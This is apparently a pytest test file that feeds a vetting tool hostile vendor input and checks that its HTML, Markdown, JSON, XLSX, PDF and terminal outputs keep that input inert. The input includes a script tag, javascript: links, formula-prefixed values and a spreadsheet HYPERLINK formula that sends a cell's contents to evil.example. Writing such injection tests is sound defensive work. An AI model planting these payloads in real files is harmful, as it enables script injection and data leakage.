"""Injection, per output format: hostile text from an answers file stays inert everywhere.

One vendor-supplied answers file carries a script, a `javascript:` link, Markdown tricks
and spreadsheet formulas in the tool's name, vendor, URL, notes and evidence; every
format `vetting report` writes is then checked for what would make that text act.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import ROOT, Result

SCRIPT = "<script>alert(1)</script>"
LINK = "[click](javascript:alert(2))"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = f"{SCRIPT} {LINK} **bold** | cell | {FORMULA}"


def _render(out: Path, formats: str) -> Path:
    """The hostile answers file in `out`, and its outputs in `formats`."""
    text = (ROOT / "examples/health-ai/us-chatbot-reject.yaml").read_text(encoding="utf-8")
    text = text.replace("name: CareChat", "name: 'Evil " + SCRIPT.replace("'", "''") + "'")
    text = text.replace("url: https://carechat.example", "url: 'javascript:alert(3)'")
    text = text.replace(
        "notes:\n",
        "notes:\n  scope.buyer: '" + HOSTILE.replace("'", "''") + "'\n"
        "  hosting.non_eea_access: '+SUM(1,2)'\n  hosting.encryption: '@cmd'\n"
        "  hosting.extraterritorial_law: '-2+3'\n",
    )
    answers = out / "hostile.yaml"
    answers.write_text(text, encoding="utf-8")
    proc = subprocess.run(
        [
            str(ROOT / ".venv/bin/vetting") if (ROOT / ".venv/bin/vetting").exists() else "vetting",
            "report",
            str(answers),
            "--format",
            formats,
            "--draft",  # a rejected tool: its notice can only be a draft
            "--lang",
            "en",
            "-o",
            str(out),
        ],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stderr
    return out


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _render(tmp_path_factory.mktemp("hostile"), "md,html,json,xlsx,patient-notice")


def _one(folder: Path, pattern: str) -> Path:
    found = sorted(folder.glob(pattern))
    assert len(found) == 1, (pattern, [p.name for p in folder.iterdir()])
    return found[0]


@pytest.mark.parametrize("pattern", ["*.report.html", "*.patient-notice.html"])
def test_html_keeps_hostile_text_inert(outputs: Path, pattern: str) -> None:
    html = _one(outputs, pattern).read_text(encoding="utf-8")
    assert "<script" not in html.lower()
    assert not re.search(r"href\s*=\s*[\"']?\s*javascript:", html, re.I)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert not re.search(r"\son\w+\s*=", html.split("<body", 1)[1])  # no event handlers


@pytest.mark.parametrize("pattern", ["*.report.md", "*.patient-notice.md"])
def test_markdown_keeps_hostile_text_inert(outputs: Path, pattern: str) -> None:
    md = _one(outputs, pattern).read_text(encoding="utf-8")
    assert SCRIPT not in md  # raw HTML in Markdown would be rendered by most viewers
    assert not re.search(r"(?<!\\)\]\(javascript:", md)  # no live link
    if "report" in pattern:
        assert r"\[click\](javascript:alert(2))" in md
        assert r"\*\*bold\*\*" in md and r"\| cell \|" in md


def test_json_carries_the_text_as_data(outputs: Path) -> None:
    data = json.loads(_one(outputs, "*.report.json").read_text(encoding="utf-8"))
    assert data["tool"]["name"] == f"Evil {SCRIPT}"  # data, escaped by the JSON encoder
    assert data["tool"]["url"] == "javascript:alert(3)"


def test_xlsx_never_holds_a_formula(outputs: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(_one(outputs, "*.report.xlsx"))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
    assert any("HYPERLINK" in t for t in texts)  # the text is there, as text


@pytest.mark.slow  # WeasyPrint
def test_pdf_shows_the_text_as_text(tmp_path: Path) -> None:
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed; .ci/run installs it")
    pdf = _one(_render(tmp_path, "pdf"), "*.report.pdf")
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
    assert "alert(1)" in text  # printed as characters, not run: PDFs from escaped HTML


def test_terminal_output_carries_no_control_sequences(
    cli: Callable[..., Result], outputs: Path
) -> None:
    result = cli("score", str(outputs / "hostile.yaml"))
    assert "\x1b" not in result.out
